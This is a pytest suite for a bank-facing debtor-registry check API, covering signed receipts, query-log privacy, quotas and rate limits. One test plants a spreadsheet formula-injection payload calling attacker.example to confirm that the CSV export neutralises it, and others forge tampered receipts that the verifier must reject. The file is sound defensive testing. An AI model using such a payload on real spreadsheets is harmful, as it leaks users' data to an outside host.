"""Bank pre-lending checks (Art. 14) over real HTTP: answers, errors, receipts, the query
log, retention, quotas and the operator CLI."""

from __future__ import annotations

import asyncio
import base64
import csv
import hashlib
import hmac
import io
import json
import subprocess
import unicodedata
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import httpx
import pytest
import sqlalchemy as sa
from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey

from registry.calendar import today_in_china
from registry.checks.jobs import purge_query_log
from registry.checks.receipts import covered_index
from registry.checks.services import CheckOutcome, ParsedSubject, record_group
from registry.checks.stores import CoreStore, SqliteStore
from registry.clients.services import create_client
from registry.identity.crypto import load_secrets
from registry.identity.identifiers import normalise_text
from registry.identity.types import public_identifier
from registry.runtime import Services
from registry.settings import Settings
from registry.timeutil import utcnow
from service.app import create_app
from tests.support.checks import bank, publish_person, unlisted_id
from tests.support.harness import CourtHandle, Registry, cli_env, registry_bin, serve_app
from tests.support.publishing import checkpoint, remove


def b64url_decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def check(http: httpx.Client, subjects: list[dict[str, Any]], **extra: Any) -> httpx.Response:
    body = {"subjects": subjects, "purpose": "loan_application", "reference": "LA-2026-0001", **extra}
    return http.post("/v1/checks", json=body)


def jwks(registry: Registry) -> dict[str, Any]:
    with registry.http() as http:
        return dict(http.get("/.well-known/jwks.json").json())


def commitment(nonce: bytes, material: str) -> str:
    return b64url(hmac.new(nonce, material.encode(), hashlib.sha256).digest())


def verify_independently(receipt: str, keys: dict[str, Any]) -> dict[str, Any]:
    """Raw `cryptography` against the published JWK Set: no registry code, no JOSE library."""
    header_b64, payload_b64, signature_b64 = receipt.split(".")
    header = json.loads(b64url_decode(header_b64))
    assert header["alg"] == "EdDSA"
    jwk = next(key for key in keys["keys"] if key["kid"] == header["kid"])
    assert (jwk["kty"], jwk["crv"]) == ("OKP", "Ed25519")
    public = Ed25519PublicKey.from_public_bytes(b64url_decode(jwk["x"]))
    public.verify(b64url_decode(signature_b64), f"{header_b64}.{payload_b64}".encode())
    return dict(json.loads(b64url_decode(payload_b64)))


def test_listed_not_listed_and_removed(registry: Registry, court: CourtHandle) -> None:
    listed_id, listed = publish_person(registry, court)
    removed_id, removed = publish_person(registry, court)
    remove(registry, court, removed_id)
    stranger = unlisted_id(registry)
    _, http = bank(registry)
    with http:
        response = check(
            http,
            [
                {"id_number": listed["debtor"]["id_number"], "name": listed["debtor"]["name"]},
                {"id_number": removed["debtor"]["id_number"]},
                {"id_number": stranger},
            ],
        )
    assert response.status_code == 200, response.text
    results = response.json()["results"]
    hit, gone, clean = results
    assert hit["listed"] is True and "name_mismatch" not in hit
    assert hit["identifier_masked"] == public_identifier("resident_id", listed["debtor"]["id_number"])
    [entry] = hit["listings"]
    assert entry["listing_id"] == listed_id
    assert entry["court_code"] == court.code and entry["court_name"] == court.name
    assert entry["case_number"] == listed["case_number"]
    assert entry["obligations"] == normalise_text(listed["obligations"])
    assert entry["grounds"] == listed["grounds"]
    assert entry["listed_on"] == listed["listed_on"]
    assert entry["term_years"] == listed.get("term_years")
    assert entry["performance"]["status"] == listed["performance"]["status"]
    # The bank profile is an allow-list: nothing about the creditor, keys or ciphertext.
    assert set(entry) == {
        "listing_id", "version", "name", "identifier_masked", "court_code", "court_name",
        "case_number", "basis_document_number", "basis_issuer", "obligations", "amount_cents",
        "performance", "grounds", "filed_on", "listed_on", "term_years", "expires_on",
    }  # fmt: skip
    assert gone["listed"] is False and "listings" not in gone
    assert clean["listed"] is False
    # No full identifier echoed back, only masks.
    for number in (listed["debtor"]["id_number"], removed["debtor"]["id_number"], stranger):
        assert number not in response.text


def test_name_mismatch_is_flagged_and_text_is_normalised(registry: Registry, court: CourtHandle) -> None:
    _, listed = publish_person(registry, court)
    number, name = listed["debtor"]["id_number"], listed["debtor"]["name"]
    full_width = unicodedata.normalize("NFKC", number).translate(
        {ord(c): ord(c) + 0xFEE0 for c in "0123456789X"}
    )
    _, http = bank(registry)
    with http:
        results = check(
            http,
            [
                {"id_number": number, "name": "王小明" if name != "王小明" else "李小明"},
                {"id_number": full_width, "name": " ".join(name)},
            ],
        ).json()["results"]
    assert results[0]["listed"] is True and results[0]["name_mismatch"] is True
    assert results[0]["listings"][0]["name"] == name  # shown, not hidden
    assert results[1]["listed"] is True and "name_mismatch" not in results[1]


def test_bad_subjects_are_reported_and_the_rest_answered(registry: Registry, court: CourtHandle) -> None:
    _, listed = publish_person(registry, court)
    number = listed["debtor"]["id_number"]
    wrong_check = number[:17] + ("0" if number[17] != "0" else "1")
    _, http = bank(registry)
    with http:
        response = check(
            http,
            [
                {"id_number": wrong_check},
                {"name": "张三"},
                {"id_number": number, "credit_code": "91110000600037341L"},
                {"credit_code": "91110000600037341X"},
                {"id_number": "abc"},
                {"id_number": number},
                {"credit_code": "91110000600037341L"},
            ],
        )
    assert response.status_code == 200, response.text
    results = response.json()["results"]
    assert [r.get("error", {}).get("code") for r in results] == [
        "invalid_id_number", "subject_identifier", "subject_identifier", "invalid_credit_code",
        "invalid_id_number", None, None,
    ]  # fmt: skip
    assert results[5]["listed"] is True
    assert len(results[6].pop("nonce")) == 43  # 32 bytes, base64url
    assert results[6] == {"index": 6, "kind": "organization", "identifier_masked": "91110000600037341L",
                          "listed": False}  # fmt: skip
    assert wrong_check not in response.text


def test_refusals(registry: Registry, court: CourtHandle) -> None:
    stranger = unlisted_id(registry)
    _, http = bank(registry)
    with http:
        too_many = check(http, [{"id_number": stranger}] * 1001)
        assert too_many.status_code == 413 and too_many.json()["code"] == "batch_too_large"
        purpose = check(http, [{"id_number": stranger}], purpose="curiosity")
        assert purpose.status_code == 422 and purpose.json()["code"] == "unknown_purpose"
        empty = check(http, [])
        assert empty.status_code == 422 and empty.json()["code"] == "no_subjects"
        garbage = http.post("/v1/checks", content=b"{", headers={"content-type": "application/json"})
        assert garbage.status_code == 400 and garbage.json()["code"] == "invalid_json"
        wrong_type = check(http, [{"id_number": 110105}])
        assert wrong_type.status_code == 422 and wrong_type.json()["code"] == "invalid_field"
        assert wrong_type.json()["pointer"] == "/subjects/0/id_number"
        no_reference = http.post(
            "/v1/checks", json={"subjects": [{"id_number": stranger}], "purpose": "loan_application"}
        )
        assert no_reference.status_code == 422 and no_reference.json()["pointer"] == "/reference"
    for role in ("agency", "media", "admin"):
        with registry.http(registry.client(role)) as other:
            refused = check(other, [{"id_number": stranger}])
        assert refused.status_code == 403 and refused.json()["code"] == "forbidden_role"
        assert refused.headers["content-type"].startswith("application/problem+json")
    with registry.http(court.api_key) as as_court:
        assert check(as_court, [{"id_number": stranger}]).status_code == 403
    with registry.http("rk_not-a-key") as anonymous:
        assert check(anonymous, [{"id_number": stranger}]).status_code == 401
    with registry.engine.connect() as conn:
        assert conn.execute(sa.text("SELECT count(*) FROM check_log")).scalar_one() == 0


def test_receipt_verifies_independently_and_names_what_was_checked(
    registry: Registry, court: CourtHandle, admin: httpx.Client
) -> None:
    listed_id, listed = publish_person(registry, court)
    number, name = listed["debtor"]["id_number"], listed["debtor"]["name"]
    stranger = unlisted_id(registry)
    client_id, http = bank(registry)
    with http:
        response = check(
            http, [{"id_number": number, "name": name}, {"id_number": stranger}, {"id_number": "1"}]
        )
    answer = response.json()
    head = admin.get("/v1/events", params={"limit": 1}).json()["head"]

    keys = jwks(registry)
    claims = verify_independently(answer["receipt"], keys)
    header = json.loads(b64url_decode(answer["receipt"].split(".")[0]))
    assert header["kid"] == keys["keys"][0]["kid"]  # the active key signs
    assert claims["typ"] == "check-receipt"
    assert claims["bank"] == client_id
    assert claims["purpose"] == "loan_application" and claims["reference"] == "LA-2026-0001"
    assert claims["jti"] == answer["check_id"] and claims["checked_at"] == answer["checked_at"]
    assert claims["log"]["seq"] == head == answer["log_position"]["seq"]
    assert "checkpoint" in claims and claims["checkpoint"] is None  # no checkpoint signed yet
    first, second, third = claims["subjects"]
    nonces = [b64url_decode(result["nonce"]) for result in answer["results"]]
    assert all(len(nonce) == 32 for nonce in nonces) and len(set(nonces)) == 3
    # A bank proves which borrower a receipt covers with the subject and its nonce.
    assert first["commitment"] == commitment(nonces[0], f"person\x1f{number}\x1f{name}")
    assert second["commitment"] == commitment(nonces[1], f"person\x1f{stranger}\x1f")
    assert first["listed"] is True and first["listings"] == [f"{listed_id}/1"]
    assert second["listed"] is False and second["listings"] == []
    assert third["error"] == "invalid_id_number"
    assert number not in response.text.split("receipt")[1]
    assert number.encode() not in b64url_decode(answer["receipt"].split(".")[1])

    with registry.http() as public:
        verdict = public.post("/v1/checks/verify", json={"receipt": answer["receipt"]}).json()
    assert verdict["genuine"] is True and verdict["reason"] == "genuine"
    assert verdict["claims"] == claims and verdict["key_id"] == header["kid"]


def test_the_receipt_alone_does_not_give_the_number_back(registry: Registry, court: CourtHandle) -> None:
    """Issue 15 #3: the commitment's key (the per-subject nonce) is beside the receipt, not
    in it: an attacker who holds the receipt and even the right number cannot confirm it
    from anything the receipt carries, while the bank proves coverage with subject + nonce."""
    _, listed = publish_person(registry, court)
    number, name = listed["debtor"]["id_number"], listed["debtor"]["name"]
    stranger = unlisted_id(registry)
    _, http = bank(registry)
    with http:
        answer = check(http, [{"id_number": stranger}, {"id_number": number, "name": name}]).json()
    receipt = answer["receipt"]
    payload = b64url_decode(receipt.split(".")[1])
    claims = json.loads(payload)
    assert claims["v"] == 2 and "salt" not in claims
    nonce = answer["results"][1]["nonce"]
    assert nonce not in receipt and b64url_decode(nonce) not in payload

    # Everything the receipt carries, tried as a salt or key with the true number: no match.
    def strings(value: Any) -> Iterator[str]:
        if isinstance(value, dict):
            for item in value.values():
                yield from strings(item)
        elif isinstance(value, list):
            for item in value:
                yield from strings(item)
        elif isinstance(value, str):
            yield value

    digests = {str(entry.get("commitment") or entry.get("sha256")) for entry in claims["subjects"]}
    for text in strings(claims):
        for key in {text.encode(), *([b64url_decode(text)] if len(text) % 4 != 1 else [])}:
            for material in (f"person\x1f{number}\x1f{name}", f"person\x1f{number}\x1f"):
                assert commitment(key, material) not in digests
                assert b64url(hashlib.sha256(key + material.encode()).digest()) not in digests

    with registry.http() as public:

        def verify(subject: dict[str, Any], nonce: str | None) -> dict[str, Any]:
            body = {"receipt": receipt, "subject": subject} | ({"nonce": nonce} if nonce else {})
            response = public.post("/v1/checks/verify", json=body)
            assert response.status_code == 200, response.text
            return dict(response.json())

        covered = verify({"id_number": number, "name": name}, nonce)
        assert covered["genuine"] is True
        assert covered["subject_covered"] is True and covered["subject_index"] == 1
        assert verify({"id_number": stranger}, answer["results"][0]["nonce"])["subject_index"] == 0
        # Without the nonce, or with another subject's, the receipt proves nothing.
        assert verify({"id_number": number, "name": name}, None)["subject_covered"] is False
        assert (
            verify({"id_number": number, "name": name}, answer["results"][0]["nonce"])["subject_covered"]
            is False
        )
        assert verify({"id_number": stranger}, nonce)["subject_covered"] is False
        assert verify({"id_number": number}, nonce)["subject_covered"] is False  # the name was part of it
        for body, code, pointer in [
            (
                {"receipt": receipt, "subject": {"id_number": "123"}, "nonce": nonce},
                "invalid_id_number",
                "/subject",
            ),
            # Text the rule forbids, or too long, in the subject: its code, as in a check.
            (
                {"receipt": receipt, "subject": {"id_number": number + "\u200b"}, "nonce": nonce},
                "invalid_id_number",
                "/subject",
            ),
            (
                {"receipt": receipt, "subject": {"id_number": number, "name": "张" * 257}, "nonce": nonce},
                "subject_identifier",
                "/subject",
            ),
            ({"receipt": receipt, "subject": {"id_number": number}, "nonce": "x"}, "invalid_field", "/nonce"),
            ({"receipt": receipt, "nonce": nonce}, "invalid_field", "/subject"),
        ]:
            refused = public.post("/v1/checks/verify", json=body)
            assert refused.status_code == 422, refused.text
            assert (refused.json()["code"], refused.json()["pointer"]) == (code, pointer)


def test_receipt_names_the_newest_signed_checkpoint(
    registry: Registry, court: CourtHandle, engine: sa.Engine, settings: Settings
) -> None:
    _, listed = publish_person(registry, court)
    size = checkpoint(engine, settings)
    assert size is not None
    _, http = bank(registry)
    with http:
        receipt = check(http, [{"id_number": listed["debtor"]["id_number"]}]).json()["receipt"]
    claims = verify_independently(receipt, jwks(registry))
    with registry.http() as public:
        signed = public.get("/v1/log/checkpoint", params={"size": size}).json()
    assert claims["checkpoint"] == {"tree_size": size, "root_hash": signed["root_hash"]}
    # The event log only grows after the checkpoint: the receipt's position is at or past it.
    assert claims["log"]["seq"] >= size


def test_altered_forged_and_malformed_receipts_are_refused(registry: Registry, court: CourtHandle) -> None:
    _, listed = publish_person(registry, court)
    _, http = bank(registry)
    with http:
        receipt = check(http, [{"id_number": listed["debtor"]["id_number"]}]).json()["receipt"]
    header_b64, payload_b64, signature_b64 = receipt.split(".")
    payload = b64url_decode(payload_b64)
    # Flip one byte of the payload: a listed subject now reads as not listed.
    assert b'"listed":true' in payload
    flipped = bytearray(payload)
    flipped[payload.index(b"true")] ^= 0x01
    altered = f"{header_b64}.{b64url(bytes(flipped))}.{signature_b64}"
    other_key = json.loads(b64url_decode(header_b64)) | {"kid": "rk_0000000000000000"}
    unknown_kid = f"{b64url(json.dumps(other_key).encode())}.{payload_b64}.{signature_b64}"
    hs256 = json.loads(b64url_decode(header_b64)) | {"alg": "HS256"}
    wrong_alg = f"{b64url(json.dumps(hs256).encode())}.{payload_b64}.{signature_b64}"
    short_signature = f"{header_b64}.{payload_b64}.{b64url(b'x' * 10)}"

    keys = jwks(registry)
    with pytest.raises(InvalidSignature):
        verify_independently(altered, keys)
    cases = {
        altered: "altered",
        unknown_kid: "unknown_kid",
        wrong_alg: "unsupported_algorithm",
        short_signature: "bad_signature",
        "not.a-receipt": "malformed",
        "a.b.c": "malformed",
        "e30.e30.!!!": "malformed",
        # A header nested deeper than a JSON parser goes: malformed, not a server error.
        f"{b64url(b'[' * 100_000)}.{payload_b64}.{signature_b64}": "malformed",
    }
    with registry.http() as public:
        for token, reason in cases.items():
            verdict = public.post("/v1/checks/verify", json={"receipt": token})
            assert verdict.status_code == 200, verdict.text
            assert verdict.json()["genuine"] is False, token
            assert verdict.json()["reason"] == reason, token
            assert "claims" not in verdict.json()
        refused = public.post("/v1/checks/verify", json={"token": receipt})
        assert refused.status_code == 422 and refused.json()["code"] == "invalid_field"


def test_query_log_holds_hashes_only_and_admins_export_it(
    registry: Registry, court: CourtHandle, admin: httpx.Client, engine: sa.Engine, settings: Settings
) -> None:
    _, listed = publish_person(registry, court)
    number = listed["debtor"]["id_number"]
    stranger = unlisted_id(registry)
    client_id, http = bank(registry)
    other_id, other = bank(registry, "Other bank")
    with http, other:
        assert (
            check(http, [{"id_number": number}, {"id_number": stranger}, {"id_number": "bad"}]).status_code
            == 200
        )
        assert check(other, [{"id_number": number}], purpose="credit_review").status_code == 200

    with engine.connect() as conn:
        rows = [tuple(row) for row in conn.execute(sa.text("SELECT * FROM check_log ORDER BY id"))]
    assert len(rows) == 4
    dump = repr(rows)
    for secret in (number, stranger, number[:14], stranger[6:14]):
        assert secret not in dump
    blind = load_secrets(settings).blind_index

    exported = admin.get(f"/v1/admin/banks/{client_id}/query-log")
    assert exported.status_code == 200, exported.text
    assert exported.headers["content-type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in exported.text.splitlines()]
    assert [line["result"] for line in lines] == ["listed", "not_listed", "invalid"]
    assert lines[0]["subject_hash"] == blind(number).hex()
    assert lines[1]["subject_hash"] == blind(stranger).hex()
    assert {line["purpose"] for line in lines} == {"loan_application"}
    assert lines[2]["error"] == "invalid_id_number"
    assert number not in exported.text and stranger not in exported.text

    as_csv = admin.get(f"/v1/admin/banks/{other_id}/query-log", params={"format": "csv"})
    assert as_csv.headers["content-type"] == "text/csv; charset=utf-8"  # once (it was twice)
    header, line = as_csv.text.strip().splitlines()
    assert header.startswith("checked_at,check_id,purpose")
    assert ",credit_review," in line and blind(number).hex() in line

    tomorrow = (utcnow() + timedelta(days=1)).isoformat()
    later = admin.get(f"/v1/admin/banks/{client_id}/query-log", params={"from": tomorrow})
    assert later.status_code == 200 and later.text == ""
    naive = admin.get(f"/v1/admin/banks/{client_id}/query-log", params={"from": "2026-01-01T00:00:00"})
    assert naive.status_code == 400
    # Of two starts, the later one read answered an empty log ("checked no one"): refused.
    twice = admin.get(f"/v1/admin/banks/{client_id}/query-log?from=2026-01-01T00:00:00Z&from={tomorrow}")
    assert (twice.status_code, twice.json()["code"]) == (400, "repeated_parameter")
    with registry.http(registry.client("bank")) as nosy:
        assert nosy.get(f"/v1/admin/banks/{client_id}/query-log").status_code == 403
    # No bank has the id (an agency's, or none): 404, not an empty log read as "checked no one".
    with engine.begin() as conn:
        agency, _ = create_client(conn, "an agency", "agency", None, actor="test", now=utcnow())
    for unknown in ("cl_nope", agency):
        missing = admin.get(f"/v1/admin/banks/{unknown}/query-log")
        assert (missing.status_code, missing.json()["code"]) == (404, "client_not_found"), missing.text


def test_retention_purge(registry: Registry, engine: sa.Engine, settings: Settings) -> None:
    _, http = bank(registry)
    with http:
        for _ in range(3):
            assert check(http, [{"id_number": unlisted_id(registry)}]).status_code == 200
    with engine.begin() as conn:
        ids = list(conn.execute(sa.text("SELECT id FROM check_log ORDER BY id")).scalars())
        just_kept = utcnow() - timedelta(days=settings.checks.log_retention_days - 1)
        expired = utcnow() - timedelta(days=settings.checks.log_retention_days, minutes=1)
        for row_id, when in ((ids[0], expired), (ids[1], just_kept)):
            conn.execute(
                sa.update(sa.table("check_log", sa.column("id"), sa.column("checked_at")))
                .where(sa.column("id") == row_id)
                .values(checked_at=when if engine.dialect.name != "sqlite" else when.replace(tzinfo=None))
            )
    services = Services.create(settings)
    try:
        assert asyncio.run(purge_query_log(services)) == 1
    finally:
        asyncio.run(services.close())
    with engine.connect() as conn:
        left = list(conn.execute(sa.text("SELECT id FROM check_log ORDER BY id")).scalars())
    assert left == ids[1:]


def test_daily_quota(registry: Registry, engine: sa.Engine, settings: Settings) -> None:
    client_id, http = bank(registry)
    today = today_in_china()
    with engine.begin() as conn:
        conn.execute(
            sa.text("INSERT INTO check_usage (client_id, day, subjects) VALUES (:c, :d, :n)"),
            {"c": client_id, "d": today, "n": settings.checks.daily_quota - 1},
        )
    subject = {"id_number": unlisted_id(registry)}
    with http:
        refused = check(http, [subject, subject])
        assert refused.status_code == 429, refused.text
        assert refused.json()["code"] == "daily_quota_exceeded"
        assert 0 < int(refused.headers["retry-after"]) <= 86_401
        assert check(http, [subject]).status_code == 200  # the last one of the day
        assert check(http, [subject]).json()["code"] == "daily_quota_exceeded"
    with engine.connect() as conn:
        assert conn.execute(sa.text("SELECT count(*) FROM check_log")).scalar_one() == 1


@pytest.fixture
def strict_server(settings: Settings, engine: sa.Engine) -> Iterator[str]:
    """A second real server on the same database, allowing two check requests a second."""
    with serve_app(create_app(settings.override(checks={"rate_per_second": 2}), run_scheduler=False)) as url:
        yield url


def test_rate_limit_per_bank(registry: Registry, strict_server: str) -> None:
    keys = []
    for name in ("Fast bank", "Other bank"):
        _, client = bank(registry, name)
        keys.append(client.headers["authorization"])
        client.close()
    subject = {"id_number": unlisted_id(registry)}
    with httpx.Client(base_url=strict_server, headers={"Authorization": keys[0]}) as fast:
        statuses = [check(fast, [subject]).status_code for _ in range(4)]
        refused = check(fast, [subject])
    assert statuses[:2] == [200, 200] and 429 in statuses
    assert refused.status_code == 429 and refused.json()["code"] == "rate_limited"
    assert 1 <= int(refused.headers["retry-after"]) <= 2
    # Per bank: another bank is not held back by the first one's burst.
    with httpx.Client(base_url=strict_server, headers={"Authorization": keys[1]}) as other:
        assert check(other, [subject]).status_code == 200


@pytest.mark.slow
def test_cli_check_prints_the_same_answer(registry: Registry, court: CourtHandle, settings: Settings) -> None:
    listed_id, listed = publish_person(registry, court)
    number = listed["debtor"]["id_number"]
    done = subprocess.run(
        [registry_bin(), "check", number, "--name", "某某某", "--reference", "desk-7"],
        env=cli_env(settings) | {"REGISTRY_SIGNING_KEY_FILE": str(settings.keys.signing_key_file)},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout)
    [result] = answer["results"]
    assert result["listed"] is True and result["name_mismatch"] is True
    assert result["listings"][0]["listing_id"] == listed_id
    assert number not in done.stdout.split('"receipt"')[0]
    with registry.http() as public:
        verdict = public.post("/v1/checks/verify", json={"receipt": answer["receipt"]}).json()
    assert verdict["genuine"] is True and verdict["claims"]["bank"] == "operator:cli"
    assert verdict["claims"]["reference"] == "desk-7"
    bad = subprocess.run(
        [registry_bin(), "check", "12345"], env=cli_env(settings), capture_output=True, text=True, check=False
    )
    assert json.loads(bad.stdout)["results"][0]["error"]["code"] == "invalid_id_number"


def test_concurrent_checks_are_each_logged_and_quota_is_exact(
    registry: Registry, engine: sa.Engine, settings: Settings
) -> None:
    """Checks answered together (logged in one group commit, the two banks' checks mixed in
    its groups) keep their own quota: one bank's refusals do not undo another bank's log
    rows."""
    from concurrent.futures import ThreadPoolExecutor

    near_id, near = bank(registry, "Nearly spent")
    free_id, free = bank(registry, "Plenty left")
    today = today_in_china()
    with engine.begin() as conn:
        conn.execute(
            sa.text("INSERT INTO check_usage (client_id, day, subjects) VALUES (:c, :d, :n)"),
            {"c": near_id, "d": today, "n": settings.checks.daily_quota - 5},
        )
    subject = [{"id_number": unlisted_id(registry)}]
    with near, free, ThreadPoolExecutor(max_workers=8) as pool:
        answered = list(
            pool.map(lambda http: (http is near, check(http, subject).status_code), [near, free] * 12)
        )
    near_codes = [code for is_near, code in answered if is_near]
    free_codes = [code for is_near, code in answered if not is_near]
    assert sorted(near_codes) == [200] * 5 + [429] * 7
    assert free_codes == [200] * 12
    with engine.connect() as conn:
        logged = dict(
            conn.execute(sa.text("SELECT client_id, count(*) FROM check_log GROUP BY client_id")).all()
        )
        used = conn.execute(
            sa.text("SELECT subjects FROM check_usage WHERE client_id = :c"), {"c": near_id}
        ).scalar_one()
    assert logged == {near_id: 5, free_id: 12}
    assert used == settings.checks.daily_quota


def test_version_1_receipts_still_match_a_subject_without_a_nonce() -> None:
    salt = b"\x07" * 16
    digest = b64url(hashlib.sha256(salt + b"person\x1f11010519491231002X\x1f").digest())
    claims = {"v": 1, "salt": b64url(salt), "subjects": [{"i": 0, "sha256": digest}]}
    assert covered_index(claims, "person", "11010519491231002X", None, None) == 0
    assert covered_index(claims, "person", "11010519491231002X", "张三", None) is None
    # Version 2 never matches without the nonce.
    assert (
        covered_index({"v": 2, "subjects": [{"i": 0, "commitment": digest}]}, "person", "x", None, None)
        is None
    )


def test_the_query_log_csv_neutralises_what_a_spreadsheet_would_run(
    registry: Registry, admin: httpx.Client
) -> None:
    client_id, http = bank(registry)
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"点击")'
    with http:
        assert check(http, [{"id_number": unlisted_id(registry)}], reference=formula).status_code == 200
    as_csv = admin.get(f"/v1/admin/banks/{client_id}/query-log", params={"format": "csv"})
    assert as_csv.status_code == 200, as_csv.text
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [row["reference"] for row in rows] == ["'" + formula]


def test_one_group_commit_admits_and_refuses_each_check_on_its_own_quota(
    registry: Registry, engine: sa.Engine, settings: Settings
) -> None:
    """`record_group` (the group commit, on either database): in one group, a bank's checks
    are admitted in turn until its quota is spent, a refused one charges and logs nothing,
    and another bank's checks in the same group are untouched."""
    near_id, near = bank(registry, "Nearly spent")
    free_id, free = bank(registry, "Plenty left")
    near.close()
    free.close()
    quota = 10
    now = utcnow()
    with engine.begin() as conn:
        conn.execute(
            sa.text("INSERT INTO check_usage (client_id, day, subjects) VALUES (:c, :d, :n)"),
            {"c": near_id, "d": today_in_china(), "n": quota - 3},
        )

    def outcome(client_id: str, subjects: int) -> CheckOutcome:
        check_id = f"ck_test_{len(checks)}"
        parsed = [ParsedSubject(i, "person", "x", None, bytes(32), None) for i in range(subjects)]
        rows = [
            (check_id, client_id, now, "loan_application", "r", i, bytes(32), "not_listed", 0, False, None)
            for i in range(subjects)
        ]
        return CheckOutcome(
            check_id, client_id, now, "loan_application", "r", 0, bytes(32), None, parsed, [], rows
        )

    checks: list[tuple[CheckOutcome, int | None]] = []
    for client_id, subjects in [(near_id, 2), (free_id, 5), (near_id, 2), (near_id, 1), (free_id, 1)]:
        checks.append((outcome(client_id, subjects), quota))
    if engine.dialect.name == "sqlite":
        raw = engine.raw_connection()
        try:
            connection = raw.driver_connection
            connection.execute("BEGIN IMMEDIATE")
            settled = record_group(SqliteStore(connection), checks)
            connection.execute("COMMIT")
        finally:
            raw.close()
    else:
        with engine.begin() as conn:
            settled = record_group(CoreStore(conn), checks)
    assert [refusal is None for refusal in settled] == [True, True, False, True, True]
    refusal = settled[2]
    assert refusal is not None and refusal.code == "daily_quota_exceeded"
    assert refusal.detail.endswith("; 1 left today")
    with engine.connect() as conn:
        used = dict(conn.execute(sa.text("SELECT client_id, subjects FROM check_usage")).all())
        logged = dict(
            conn.execute(sa.text("SELECT client_id, count(*) FROM check_log GROUP BY client_id")).all()
        )
    assert used == {near_id: quota, free_id: 6}
    assert logged == {near_id: 3, free_id: 6}
